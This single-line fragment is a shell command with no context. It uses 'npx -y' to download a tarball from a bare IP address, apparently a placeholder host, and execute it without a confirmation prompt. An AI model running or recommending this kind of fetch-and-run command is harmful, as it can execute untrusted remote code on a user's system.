npx -y http://192.0.2.44/shots.tgz
